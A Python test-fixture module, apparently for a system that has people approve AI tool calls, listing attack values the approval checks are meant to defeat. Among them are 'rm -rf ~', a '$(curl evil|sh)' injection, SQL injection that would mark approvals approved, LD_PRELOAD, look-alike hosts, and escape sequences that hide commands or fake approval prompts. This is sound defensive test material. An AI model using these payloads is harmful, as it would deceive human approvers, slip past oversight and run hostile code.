"""The attacks on approvals, one line each, for every door at which a person answers: the terminal, a program, and the
page of the console.

What a person approved is `SHOWN`. `SWAPS` try to get another call through with it, `FORGED` are ids of no approval,
`OTHER_CONTEXTS` use a yes in another conversation, `OTHER_SERVERS` exchange the server behind a name, and `DISPLAY` are
texts that would move, hide or imitate what a person is shown, in all `PLACES` where a call can say them.
"""

import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

from msgspec.structs import replace

from rightcall.base.secrets import Redactor
from rightcall.executor.toolbox import Way, origin_of, way_of
from rightcall.policy.types import Origin

SHOWN: dict[str, Any] = {
    "path": "docs/a.md",
    "content": "caf\u00e9",
    "mode": 1,
    "force": False,
    "tags": ["x", "y"],
    "deep": {"a": {"b": 1}},
}


def other(**changed: Any) -> dict[str, Any]:
    return {"arguments": {**SHOWN, **changed}}


SWAPS: dict[str, dict[str, Any]] = {
    "another value": other(content="rm -rf ~"),
    "a value that begins the same": other(content="caf\u00e9 and more"),
    "an integer for a float": other(mode=1.0),
    "true for 1": other(mode=True),
    "text for a number": other(mode="1"),
    "0 for false": other(force=0),
    "null for false": other(force=None),
    "the other normal form": other(content="cafe\u0301"),
    "a confusable letter": other(path="docs/\u0430.md"),
    "a full-width twin": other(path="docs/\uff41.md"),
    "another case": other(path="Docs/a.md"),
    "a blank at the end": other(path="docs/a.md "),
    "a zero-width character": other(path="docs/a.md\u200b"),
    "a NUL": other(path="docs/a.md\0.txt"),
    "another way to the same file": other(path="docs/./a.md"),
    "a list in another order": other(tags=["y", "x"]),
    "a longer list": other(tags=["x", "y", "z"]),
    "a list for its only text": other(path=["docs/a.md"]),
    "a value deep inside": other(deep={"a": {"b": 2}}),
    "a key deep inside": other(deep={"a": {"b": 1, "c": 1}}),
    "one argument more": other(sudo=True),
    "one argument less": {"arguments": {key: SHOWN[key] for key in SHOWN if key != "tags"}},
    "the arguments inside the arguments": {"arguments": {"arguments": SHOWN, "name": "file/save"}},
    "another tool": {"arguments": SHOWN, "tool": "file/delete"},
    "a tool of nearly that name": {"arguments": SHOWN, "tool": "file/s\u0430ve"},
    "another caller": {"arguments": SHOWN, "caller": "intern"},
    "the caller in capitals": {"arguments": SHOWN, "caller": "Teacher"},
    "the caller with a blank": {"arguments": SHOWN, "caller": "teacher "},
    "the caller in full width": {"arguments": SHOWN, "caller": "\uff54eacher"},
    "the caller with a foreign letter": {"arguments": SHOWN, "caller": "te\u0430cher"},
    "the caller and a piece of the digest": {"arguments": SHOWN, "caller": 'teacher","'},
    "another definition of the tool": {"arguments": SHOWN, "definition": "e" * 64},
    "another state of what it touches": {"arguments": SHOWN, "state": "changed"},
    "no state at all": {"arguments": SHOWN, "state": ""},
}

FORGED = {
    "an id that was never given": "00000000",
    "nothing": "",
    "SQL": "' OR '1'='1",
    "SQL that would change something": "x'; UPDATE approvals SET status='approved'; --",
    "a path": "../../.rightcall/audit.db",
    "a pattern": "%",
    "a megabyte": "a" * 1_000_000,
    "a NUL": "\0",
    "a lone surrogate": "\ud800",
    "escape sequences": "\x1b[2J",
}

# ── elsewhere ──

HERE = "chat-1"
REDACTOR = Redactor(b"key of the store")

OTHER_CONTEXTS: dict[str, dict[str, Any]] = {
    "another conversation": {"context": "chat-2"},
    "no conversation at all": {"context": None},
    "an empty name": {"context": ""},
    "in capitals": {"context": "CHAT-1"},
    "a blank at the end": {"context": "chat-1 "},
    "a blank before": {"context": " chat-1"},
    "a longer name that begins the same": {"context": "chat-12"},
    "a shorter one": {"context": "chat-"},
    "in full width": {"context": "\uff43hat-1"},
    "a foreign letter": {"context": "ch\u0430t-1"},
    "the other normal form": {"context": "chat-1\u0301"},
    "a zero-width character": {"context": "chat-1\u200b"},
    "a NUL": {"context": "chat-1\0"},
    "a piece of JSON": {"context": 'chat-1","'},
    "the word null": {"context": "null"},
    "conversation and caller exchanged": {"context": "teacher", "caller": "chat-1"},
    "the conversation moved into the caller": {"context": None, "caller": "teacherchat-1"},
    "the conversation moved into the state": {"context": None, "state": "schat-1"},
    "the right conversation of another caller": {"context": HERE, "caller": "intern"},
    "the right conversation with another state": {"context": HERE, "state": "changed"},
    "the right conversation with another call": {"context": HERE, "arguments": {"path": "docs/b.md"}},
}

FILES = way_of(["npx", "-y", "server-files", "/data"], cwd="/srv", env={"TOKEN": "a", "LANG": "b"})
WIKI = way_of(url="https://wiki.example/mcp?key=hunter2", headers={"Authorization": "Bearer x"})

OTHER_SERVERS: dict[str, tuple[Way, Way]] = {
    "another program": (FILES, replace(FILES, command=("./npx", *FILES.command[1:]))),
    "another package": (FILES, replace(FILES, command=("npx", "-y", "server-fi1es", "/data"))),
    "a look-alike letter": (FILES, replace(FILES, command=("npx", "-y", "server-fil\u0435s", "/data"))),
    "an argument more": (FILES, replace(FILES, command=(*FILES.command, "--allow-all"))),
    "an argument less": (FILES, replace(FILES, command=FILES.command[:-1])),
    "arguments in another order": (FILES, replace(FILES, command=("npx", "server-files", "-y", "/data"))),
    "two arguments in one": (FILES, replace(FILES, command=("npx", "-y", "server-files /data"))),
    "an empty argument": (FILES, replace(FILES, command=(*FILES.command, ""))),
    "another folder to run in": (FILES, replace(FILES, cwd="/tmp")),
    "no folder to run in": (FILES, replace(FILES, cwd="")),
    "a variable more": (FILES, replace(FILES, env=("LANG", "LD_PRELOAD", "TOKEN"))),
    "a variable less": (FILES, replace(FILES, env=("TOKEN",))),
    "a secret in the command": (
        way_of(["s", "--token", "one"]), way_of(["s", "--token", "$(curl evil|sh)"]),
    ),
    "a URL for a command": (FILES, WIKI),
    "another host": (WIKI, replace(WIKI, url="https://wiki.example.evil/mcp?key=hunter2")),
    "another port": (WIKI, replace(WIKI, url="https://wiki.example:444/mcp?key=hunter2")),
    "no encryption": (WIKI, replace(WIKI, url="http://wiki.example/mcp?key=hunter2")),
    "another path": (WIKI, replace(WIKI, url="https://wiki.example/mcp2?key=hunter2")),
    "another user": (WIKI, replace(WIKI, url="https://evil@wiki.example/mcp?key=hunter2")),
    "a host behind an @": (WIKI, replace(WIKI, url="https://wiki.example@evil/mcp?key=hunter2")),
    "another query": (WIKI, replace(WIKI, url="https://wiki.example/mcp?key=other")),
    "a header more": (WIKI, replace(WIKI, headers=("authorization", "x-act-as"))),
    "a header for a variable": (replace(FILES, env=("x",)), replace(FILES, env=(), headers=("x",))),
}  # fmt: skip


def origin(way: Way, name: str = "wrap:files") -> Origin:
    return origin_of(name, way, REDACTOR)


# ── what is shown ──

DISPLAY = {
    "erases the line": "safe\x1b[2K\x1b[1Gharmless",
    "moves the cursor up": "x\x1b[10A\x1b[2Jasked by    root",
    "sets the title": "\x1b]0;pwned\x07",
    "a link that leads elsewhere": "\x1b]8;;http://evil\x1b\\docs\x1b]8;;\x1b\\",
    "one-byte control sequences": "\x9b2J\x9d0;x\x9c",
    "colours": "\x1b[8minvisible\x1b[0m",
    "turns the reading direction": "\u202egnp.exe\u202c \u2066x\u2069 \u200f",
    "letters from the right": "approve 1\u05d0\u05d12 deny",
    "carriage return": "rm -rf ~\rls -la  ",
    "300 empty lines": "safe" + "\n" * 300 + "rm -rf ~",
    "blanks that push it out of sight": "safe" + " " * 4000 + "rm -rf ~",
    "tabs": "safe" + "\t" * 500 + "rm -rf ~",
    "vertical moves": "a\x0b\x0c\x85\u2028\u2029b",
    "zero width": "s\u200ba\u200cf\u200de\u2060\ufeff",
    "invisible letters": "a\u3164\u115f\u2800b",
    "tag characters": "safe" + "".join(chr(0xE0000 + ord(c)) for c in "rm -rf"),
    "backspaces": "evil\x08\x08\x08\x08safe",
    "a flood of marks": "a" + "\u0335\u0336\u0337\u0338" * 500,
    "a question of its own": "ok\n\nquestion    00000000 about a call: waiting, 9 min left\nasked by    \"root\"",
    "a digest of its own": "ok\ndigest      " + "0" * 64,
    "a marker of its own": "ok\n  ── 5 empty lines ──\n  ── 1 rows with about 1 characters are NOT SHOWN ──",
    "a margin of its own": "  │ \"path\": \"docs/a.md\"\n  ╎ more\n│   │ x",
    "a prompt of its own": "ok\napprove 3f9a1c2e? [y/N] y\n3f9a1c2e is approved",
    "a second argument of its own": 'x"\n  │ "force": false',
    "escapes that are only text": "\\u001b[2K \\n \\\\u0000",
    "a NUL and a lone surrogate": "a\0b\ud800c",
}  # fmt: skip
PLACES: dict[str, Callable[[str], dict[str, Any]]] = {
    "a value": lambda text: {"arguments": {"path": text}},
    "a name": lambda text: {"arguments": {text: "x"}},
    "deep inside": lambda text: {"arguments": {"a": [{"b": {text: [text]}}]}},
    "the caller": lambda text: {"caller": text},
    "the tool": lambda text: {"tool": text},
    "the reason": lambda text: {"why": text},
    "the preview": lambda text: {"details": {"preview": text}},
    "a repair": lambda text: {"details": {"repairs": [{"path": text, "before": text, "after": text, "rule": text}]}},
    "the effects": lambda text: {"details": {"effects": [text]}},
    "the name of who answered": lambda text: {"by": text},
}


# ── what a call touches ──


def change(path: Path) -> None:
    path.write_text("somebody else's")


def exchange(path: Path) -> None:
    other = path.with_name("b.txt")
    other.write_text("old")
    os.replace(other, path)


def touch_back(path: Path) -> None:
    """Another content of the same length and with the old time."""
    before = path.stat()
    path.write_text("odd")
    os.utime(path, ns=(before.st_atime_ns, before.st_mtime_ns))


def link(path: Path) -> None:
    path.unlink()
    path.symlink_to("c.txt")


DAMAGES: dict[str, Callable[[Path], object]] = {
    "changed": change,
    "changed, with its time set back": touch_back,
    "replaced by one that looks the same": exchange,
    "deleted": Path.unlink,
    "turned into a link": link,
    "made executable": lambda path: path.chmod(0o755),
}
"""What happens to the file that an approved call is about."""
OTHER_ARGUMENTS: dict[str, Any] = {
    "another text": {"path": "a.txt", "text": "other", "mode": 1},
    "another file": {"path": "b.txt", "text": "new", "mode": 1},
    "another type": {"path": "a.txt", "text": "new", "mode": 1.5},
    "another way to the file": {"path": "./a.txt", "text": "new", "mode": 1},
    "an argument less": {"path": "a.txt", "text": "new"},
    "broken text that is repaired into something else": "{'path': 'a.txt', text: 'newer', 'mode': 1,}",
}
